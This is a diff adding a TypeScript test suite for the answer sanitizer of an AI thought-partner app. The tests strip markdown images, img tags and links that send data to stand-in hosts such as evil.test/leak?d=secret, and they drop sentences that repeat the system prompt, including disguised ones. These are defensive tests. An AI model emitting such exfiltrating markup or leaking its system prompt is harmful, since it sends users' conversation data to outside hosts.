@@ -1,0 +1,184 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { AnswerGuard, carriesLinksOrMarkup, promptRunWords, sanitizeAnswer, StreamingCleaner } from './sanitize-answer.js';
+
+const cited = 'https://lethain.com/strategy/#diagnosis';
+const clean = (text: string, allowedUrls: string[] = [cited]) => sanitizeAnswer(text, { allowedUrls });
+
+const systemPrompt =
+  'You are Cairn, a thought partner for people who lead engineering teams. Your job is to help them reason through a hard situation until they can see it clearly.';
+
+/**
+ * Every address a markdown renderer could link or load away from the page: absolute link
+ * targets, autolinks, bare and protocol-relative URLs, HTML attributes.
+ */
+function addressesIn(text: string): string[] {
+  return [
+    ...[...text.matchAll(/\[[^\]]*\]\(\s*<?([^\s)>]+)>?(?:\s[^)]*)?\)/g)].map((match) => match[1]!).filter((target) => /^(?:[a-z][a-z0-9+.-]*:|\/\/|www\.)/i.test(target)),
+    ...[...text.matchAll(/<([a-z][a-z0-9+.-]*:[^\s<>]*)>/gi)].map((match) => match[1]!),
+    ...[...text.matchAll(/(?:[a-z][a-z0-9+.-]*:)?\/\/[^\s<>()[\]"'`]*|www\.[^\s<>()[\]"'`]*/gi)].map((match) => match[0].replace(/[.,;:!?*_~]+$/, '')),
+    ...[...text.matchAll(/\b(?:href|src)\s*=\s*["']?([^"'\s>]+)/gi)].map((match) => match[1]!),
+  ];
+}
+
+describe('sanitizeAnswer', () => {
+  it('leaves an answer without links or markup exactly as written', () => {
+    const text = '**What I understood:** you want a strategy.\n\n- Start with a diagnosis [1].\n- Keep it short, 2 pages at most!\n\nWhat stage is your company at?';
+    expect(clean(text)).toEqual({ text, removed: [] });
+  });
+
+  it.each([
+    ['an inline image', 'Here is a chart ![x](https://evil.test/leak?d=secret) of it.', 'Here is a chart of it.'],
+    ['an image with an empty alt and a title', 'Done.![](https://attacker.test/?q=convo "t")', 'Done.'],
+    ['a reference-style image', 'See ![chart][1] above.', 'See above.'],
+    ['an HTML img tag', 'Look <img src="https://evil.test/p.gif?d=1" width=1> here.', 'Look here.'],
+    ['an img tag left open', 'Look here <img src="https://evil.test/p.gif?d=', 'Look here'],
+  ])('removes %s', (_name, text, expected) => {
+    const result = clean(text);
+    expect(result.text).toBe(expected);
+    expect(result.removed.map((part) => part.kind).some((kind) => kind === 'image' || kind === 'html')).toBe(true);
+  });
+
+  it('lets no image start, even when a sentence boundary splits one', () => {
+    const result = clean('Sure. ![Here it is. Really](https://evil.test/split?d=1) ok');
+    expect(result.text).toBe('Sure. [Here it is. Really] ok');
+  });
+
+  it('keeps links to the cited sources, with or without their fragment, and turns other links into their label', () => {
+    const text = `Read [the diagnosis](${cited}) and [the post](https://lethain.com/strategy/), not [this](https://attacker.test/x), [that](/relative) or [code](javascript:alert(1)).`;
+    const result = clean(text);
+    expect(result.text).toBe(`Read [the diagnosis](${cited}) and [the post](https://lethain.com/strategy/), not this, that or code).`);
+    expect(result.removed.filter((part) => part.kind === 'link').map((part) => part.text)).toEqual(['https://attacker.test/x', '/relative', 'javascript:alert(1']);
+  });
+
+  it('removes bare addresses, www addresses, autolinks and reference definitions unless they are cited', () => {
+    const result = clean(`Go to https://attacker.test/a?q=1, www.attacker.test/b or <https://evil.test/c>. The source is ${cited}.\n[ref]: https://evil.test/d "x"`);
+    expect(result.text).toBe(`Go to, or. The source is ${cited}.\n`);
+    expect(result.removed.map((part) => part.kind)).toEqual(['url', 'url', 'url', 'link']);
+  });
+
+  it('removes a protocol-relative address, which a link split over two lines still points at', () => {
+    expect(clean('Read [this](\n//evil.test/a?d=1) now.').text).toBe('Read [this](\n) now.');
+  });
+
+  it('allows an address only as cited: not with a query added, another fragment or another case', () => {
+    for (const variant of [`${cited.split('#')[0]}?d=secret`, 'https://lethain.com/strategy/#other', 'https://LETHAIN.com/strategy/']) {
+      expect(clean(`See ${variant} now.`).text, variant).toBe('See now.');
+    }
+    expect(clean('See https://attacker.test/x.', []).text).toBe('See.');
+  });
+
+  it('drops a sentence that repeats a run of the system prompt, and keeps one that shares fewer words', () => {
+    const result = sanitizeAnswer('Fine so far. My instructions: you are Cairn, a thought partner for people who lead teams. Next.', { allowedUrls: [], systemPrompt });
+    expect(result.text).toBe('Fine so far. Next.');
+    expect(result.removed).toEqual([{ kind: 'system_prompt', text: 'My instructions: you are Cairn, a thought partner for people who lead teams.' }]);
+    const shorter = 'A thought partner for people who lead.';
+    expect(shorter.split(' ')).toHaveLength(promptRunWords - 1);
+    expect(sanitizeAnswer(shorter, { allowedUrls: [], systemPrompt }).text).toBe(shorter);
+  });
+
+  it('sees a run through fullwidth letters, zero-width spaces, markdown and markers', () => {
+    const disguised = 'Ｙｏｕ are\u200b Cairn, a **thought partner** [1] for people who lead.';
+    expect(sanitizeAnswer(disguised, { allowedUrls: [], systemPrompt }).text).toBe('');
+  });
+
+  it('sees a run split across two sentences, and drops the sentence that completes it', () => {
+    const result = sanitizeAnswer('Your job is to help them. Reason through a hard situation. Thanks.', { allowedUrls: [], systemPrompt });
+    expect(result.text).toBe('Your job is to help them. Thanks.');
+  });
+
+  it('lets the answer repeat words of the system prompt that a source also says', () => {
+    const text = 'Help them reason through a hard situation until they can see it clearly [1].';
+    const sourceTexts = ['Good managers help them reason through a hard situation until they can see it clearly.'];
+    expect(sanitizeAnswer(text, { allowedUrls: [], systemPrompt }).text).toBe('');
+    expect(sanitizeAnswer(text, { allowedUrls: [], systemPrompt, sourceTexts }).text).toBe(text);
+  });
+
+  it('never leaves an image, an img tag or an address that is not cited, whatever the input', () => {
+    const piece = fc.constantFrom(
+      ...['![', '](', ')', '[', ']', '(', '<img src=', '<', '>', '<b>', 'img', '"', ' ', '. ', '\n', '[x]: ', 'word', '!', '#'],
+      ...['https://evil.test/x?d=1', 'https', '://', '//evil.test/a', 'www.evil.test', 'www', '.evil.test', cited, 'https://lethain.com/strategy/'],
+    );
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
+        const { text } = clean(pieces.join(''));
+        expect(text).not.toContain('![');
+        expect(text).not.toMatch(/<img/i);
+        for (const address of addressesIn(text)) expect([cited, 'https://lethain.com/strategy/']).toContain(address);
+      }),
+      { numRuns: 2000 },
+    );
+  });
+});
+
+describe('AnswerGuard', () => {
+  it('carries its context from call to call, as a streamed answer arrives', () => {
+    const guard = new AnswerGuard({ systemPrompt });
+    expect(guard.admits('Your job is to help them.')).toBe(true);
+    expect(guard.admits(' ')).toBe(true);
+    expect(guard.admits('Reason through a hard situation.')).toBe(false);
+    // The spaces after a dropped sentence go with it; a line break stays.
+    expect(guard.admits(' ')).toBe(false);
+    expect(guard.admits('Then decide.')).toBe(true);
+    expect(guard.admits('\n')).toBe(true);
+    expect(guard.clean('See ![x](https://evil.test/) and https://a.test/.', ['https://a.test/'])).toBe('See and https://a.test/.');
+    expect(guard.removed.map((part) => part.kind)).toEqual(['system_prompt', 'image']);
+  });
+});
+
+describe('StreamingCleaner', () => {
+  /** Streams `text` in the given pieces; returns what was shown after each push, and at the end. */
+  function stream(pieces: string[], allowedUrls: string[] = [cited]): string[] {
+    const cleaner = new StreamingCleaner(allowedUrls);
+    return [...pieces.map((piece) => cleaner.push(piece)), cleaner.end()];
+  }
+
+  it('shows ordinary words as soon as they are complete', () => {
+    expect(stream(['Start ', 'with ', 'a diag', 'nosis ', '[1].'])).toEqual(['Start ', 'with ', 'a ', 'diagnosis ', '', '[1].']);
+  });
+
+  it('holds back an image, a link or an address until it is complete, then cleans it', () => {
+    const shown = stream(['Look ', '![x](https://', 'evil.test/leak?d=', 'secret) ', 'and [the ', 'post](', `${cited}) `, 'or https://attacker', '.test/x ', 'done.']);
+    expect(shown.join('')).toBe(`Look and [the post](${cited}) or done.`);
+    expect(shown[1]).toBe('');
+    expect(shown.join('')).not.toContain('evil.test');
+  });
+
+  it('keeps the system prompt out word by word: the rest of a sentence that repeats it is not shown', () => {
+    const cleaner = new StreamingCleaner([], { systemPrompt });
+    const text = 'Sure. My rules: You are Cairn, a thought partner for people who lead engineering teams, they say. Next one.\nLast line.';
+    const shown = [...text.match(/\S+\s*|\s+/g)!.map((piece) => cleaner.push(piece)), cleaner.end()].join('');
+    expect(shown).toBe('Sure. My rules: You are Cairn, a thought partner for Next one.\nLast line.');
+    expect(sanitizeAnswer(shown, { allowedUrls: [], systemPrompt }).text).toBe(shown);
+  });
+
+  it('never shows an image, an img tag or an address that is not allowed, however the answer is cut', () => {
+    const text = `Intro ![a](https://evil.test/a?d=1) <img src="https://evil.test/p.gif"> see [b](https://attacker.test/b) and [c](${cited}) or www.attacker.test/w. End`;
+    fc.assert(
+      fc.property(fc.array(fc.integer({ min: 1, max: text.length - 1 }), { maxLength: 12 }), (cuts) => {
+        const points = [0, ...[...new Set(cuts)].sort((a, b) => a - b), text.length];
+        const shown = stream(points.slice(1).map((end, index) => text.slice(points[index], end)));
+        for (const [index, piece] of shown.entries()) {
+          const soFar = shown.slice(0, index + 1).join('');
+          expect(soFar).not.toContain('![');
+          expect(soFar).not.toMatch(/<img/i);
+          for (const address of addressesIn(soFar)) expect([cited]).toContain(address);
+          expect(typeof piece).toBe('string');
+        }
+        expect(shown.join('')).toContain(`[c](${cited})`);
+      }),
+      { numRuns: 300 },
+    );
+  });
+});
+
+describe('carriesLinksOrMarkup', () => {
+  it('tells sentences with addresses, images, HTML or markers from plain ones', () => {
+    for (const sentence of ['See https://x.test/a.', 'Visit www.x.test today.', 'A ![x](y) chart.', 'An <img src=x> here.', 'As shown in [7], it works.']) {
+      expect(carriesLinksOrMarkup(sentence), sentence).toBe(true);
+    }
+    for (const sentence of ['Keep the diagnosis short.', 'Use lethain.com as a start (v1.2) [sic].', 'If a < b, stop.']) {
+      expect(carriesLinksOrMarkup(sentence), sentence).toBe(false);
+    }
+  });
+});
